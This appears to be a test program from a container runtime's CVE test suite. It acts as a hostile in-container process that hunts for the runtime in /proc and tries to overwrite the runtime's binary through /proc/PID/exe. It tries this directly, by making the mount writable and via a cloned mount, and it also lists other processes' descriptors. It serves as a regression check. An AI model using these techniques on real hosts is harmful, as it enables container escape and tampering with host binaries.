/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/cve/hunter.c - a hostile process in a container: it waits for the runtime
 * to show itself in /proc and tries to write to its binary, now and later, and
 * to look at its descriptors.
 *
 * Usage: hunter [-d | -l]. What it achieved is appended to /found: "exe" once for
 * a foreign binary that it saw, "wrote" for one that it changed, "fd" for a
 * descriptor that it saw. With -d it goes to the background first, with -l it
 * looks at descriptors only: where hooks run, binaries are the host's. After
 * each round it removes /ask, to tell that there was one.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PREY 64

struct attributes {
	unsigned long long set, clear, propagation, userns;
};

static int prey[PREY];
static int npreys;

static void found(const char *format, const char *text)
{
	int fd = open("/found", O_WRONLY | O_CREAT | O_APPEND, 0666);

	dprintf(fd, format, text);
	close(fd);
}

static int make_writable(int fd)
{
	struct attributes attr = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };

	return (int)syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr,
			    sizeof attr);
}

static void strike(int fd, const char *way)
{
	char name[64];
	int out;

	snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
	out = open(name, O_WRONLY);
	if (out >= 0 && pwrite(out, "#!/bin/false\n", 13, 0) == 13)
		found("wrote %s\n", way);
	if (out >= 0)
		close(out);
}

/* Through the file as it is, its mount made writable, and a clone of that. */
static void strike_in_all_ways(int fd)
{
	int clone;

	strike(fd, "the file");
	if (make_writable(fd) == 0)
		strike(fd, "its mount");
	clone = (int)syscall(SYS_open_tree, fd, "",
			     1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH);
	if (clone < 0)
		return;
	if (make_writable(clone) == 0)
		strike(clone, "a clone of its mount");
	close(clone);
}

static int is_file(const struct stat *a, const char *path)
{
	struct stat b;

	return stat(path, &b) == 0 && a->st_dev == b.st_dev &&
	       a->st_ino == b.st_ino;
}

static void look_at_exe(const char *pid)
{
	char name[300];
	struct stat st;
	int fd;

	snprintf(name, sizeof name, "/proc/%s/exe", pid);
	fd = open(name, O_PATH);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_file(&st, "/proc/self/exe") ||
	    is_file(&st, "/bin/busybox")) {
		close(fd);
		return;
	}
	if (npreys == 0)
		found("%s\n", "exe");
	strike_in_all_ways(fd);
	if (npreys < PREY)
		prey[npreys++] = fd;
	else
		close(fd);
}

static void look_at_fds(const char *pid)
{
	char name[300], target[300];
	DIR *dir;

	snprintf(name, sizeof name, "/proc/%s/fd", pid);
	dir = opendir(name);
	if (!dir)
		return;
	for (struct dirent *e; (e = readdir(dir));) {
		ssize_t n;

		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		n = readlinkat(dirfd(dir), e->d_name, target,
			       sizeof target - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		found("fd %s\n", target);
	}
	closedir(dir);
}

int main(int argc, char **argv)
{
	const char *option = argc > 1 ? argv[1] : "";
	int strikes = strcmp(option, "-l") != 0;

	if (strcmp(option, "-d") == 0 && daemon(1, 0) < 0)
		return 1;
	for (;;) {
		DIR *dir = opendir("/proc");

		if (!dir)
			return 1;
		for (struct dirent *e; (e = readdir(dir));) {
			if (!isdigit((unsigned char)e->d_name[0]) ||
			    atoi(e->d_name) == getpid())
				continue;
			if (strikes)
				look_at_exe(e->d_name);
			look_at_fds(e->d_name);
		}
		closedir(dir);
		/* The kernel refuses while a binary runs; later it does not. */
		for (int i = 0; i < npreys; i++)
			strike_in_all_ways(prey[i]);
		(void)unlink("/ask");
	}
}
